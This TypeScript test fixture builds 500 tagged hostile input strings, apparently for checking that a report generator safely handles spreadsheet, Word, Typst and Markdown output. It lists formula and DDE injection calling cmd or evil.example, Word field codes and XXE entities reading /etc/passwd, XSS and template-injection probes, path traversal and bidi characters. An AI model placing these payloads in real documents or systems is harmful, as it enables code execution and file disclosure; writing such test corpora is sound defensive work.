/**
 * 500 texts that people might put into a field so that a file of the results does something. The same every time; each
 * begins with a mark of its own (`q007q`) by which it is found again in whatever was made of it.
 */

/** By what they are after. Each is followed by a number, so that no two are alike. */
const ATTACKS: Record<string, readonly string[]> = {
	formula: [
		'=HYPERLINK("https://evil.example";"Klick")',
		"=1+1",
		"+1+1",
		"-2+3",
		"@SUM(1;2)",
		"=cmd|' /C calc'!A0",
		'=WEBSERVICE("https://evil.example")',
		"\t=1+1",
		"\r=1+1",
		'"=1+1"',
		"＝1+1",
		"=IMPORTXML(A1;B1)",
		"'=1+1",
		'=DDE("cmd";"/C calc";"x")',
		";=1+1;",
		"%0A=1+1",
	],
	field: [
		'{ INCLUDETEXT "file:///etc/passwd" }',
		"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
		'{ HYPERLINK "https://evil.example" }',
		'<w:fldSimple w:instr="INCLUDEPICTURE x"/>',
		'<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
		"{ = 1 + 1 }",
		"\\* MERGEFORMAT",
		"{ IMPORT \\\\evil.example\\share }",
	],
	script: [
		"<script>alert(1)</script>",
		'<img src=x onerror="alert(1)">',
		"<svg/onload=alert(1)>",
		"<iframe src=https://evil.example></iframe>",
		"<!--#exec cmd=ls-->",
		"<?php system('ls') ?>",
		"<style>@import url(https://evil.example)</style>",
		"</w:t></w:r><w:r><w:t>",
		"]]></t><f>1+1</f>",
		"<base href=https://evil.example>",
	],
	address: [
		"javascript:alert(1)",
		"[Klick](javascript:alert(1))",
		"data:text/html,evil",
		"file:///etc/passwd",
		"vbscript:msgbox",
		"![Bild](https://evil.example/x.png)",
		"<javascript:alert(1)>",
		"[x]: https://evil.example",
		"\\\\evil.example\\share",
		"ms-word:ofe|u|https://evil.example/x.docm",
	],
	entity: [
		'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
		"&xxe; &lt;b&gt; &#0; &#x41;",
		"&amp;amp;",
		"<![CDATA[ x ]]>",
		'<?xml version="1.0"?>',
		"&nbsp;&shy;&zwj;",
		"%25%00%0d%0a",
		'xmlns:w="http://evil.example"',
	],
	typst: [
		'#read("/etc/passwd")',
		'#image("/etc/passwd")',
		'#import "@preview/cetz:0.3.0"',
		"#panic()",
		'#eval("1+1")',
		"$ x^2 $",
		"*fett* _kursiv_ `code`",
		"<label> @ref",
		"#let x = 1",
		"#while true {}",
		"= Überschrift",
		"/* Kommentar */ // Rest",
		"#sys.inputs.report",
		'#include "report.typ"',
		"\\u{1F600} \\",
		'#plugin("x.wasm")',
	],
	markdown: [
		"# Überschrift",
		"> Zitat",
		"- Punkt",
		"1. Punkt",
		"```js",
		"| a | b |",
		"---",
		"***fett***",
		"~~weg~~",
		"<https://evil.example>",
		"[^1]: Fußnote",
		"    Code",
		"Zeile\\",
		"| --- | --- |",
	],
	template: [
		"{{constructor}}",
		["$", "{7*7}"].join(""),
		"<%= 7*7 %>",
		"#{7*7}",
		"{% include 'x' %}",
		"%s%n%x",
		"$(ls)",
		"`ls`",
		"{0}",
	],
	path: [
		"../../../etc/passwd",
		"..\\..\\windows",
		"C:\\Windows\\system32",
		"/dev/null",
		"a/b/c",
		"CON",
		"name.docx.exe",
		"word/vbaProject.bin",
		"xl/externalLinks/x.xml",
	],
	sign: [
		"a\u200bb\u200cc\u200dd",
		"a\ufeffb",
		"a\u0000b\u0007c",
		"a\u001bb\u007f",
		"a\ud800b",
		"a\udc00b",
		"a\ufffeb\uffff",
		"e\u0301 \u00e9",
		"a\u2028b\u2029c",
		"\u3000x\u00a0",
		"\u00ad\u2060x",
		"😀👩‍👩‍👧",
		"漢字",
		"a\u0085b",
	],
	bidi: ["a\u202eb", "\u2066a\u2069", "\u202da\u202c", "\u200fa\u200e", "a\u061cb", "\u2067ab"],
};

const COUNT = 500;
/** One word each, without any place to break it. */
const LONG_WORDS = 2;
const LONG = 20_000;

export interface HostileText {
	/** Occurs in no other. */
	mark: string;
	kind: string;
	text: string;
}

export const hostileTexts: readonly HostileText[] = texts();

function texts(): HostileText[] {
	const kinds = Object.keys(ATTACKS);
	return Array.from({ length: COUNT }, (_, index) => {
		const mark = `q${String(index).padStart(3, "0")}q`;
		if (index < LONG_WORDS) return { mark, kind: "long", text: `${mark}${"wort".repeat(LONG / 4)}` };
		const kind = kinds[index % kinds.length] ?? "";
		const among = ATTACKS[kind] ?? [];
		const attack = among[Math.floor(index / kinds.length) % among.length] ?? "";
		// A third of them begins with the attack, where a formula or a sign of Markdown would be one.
		return { mark, kind, text: index % 3 === 0 ? `${attack} ${mark}` : `${mark} ${attack} ${mark}` };
	});
}
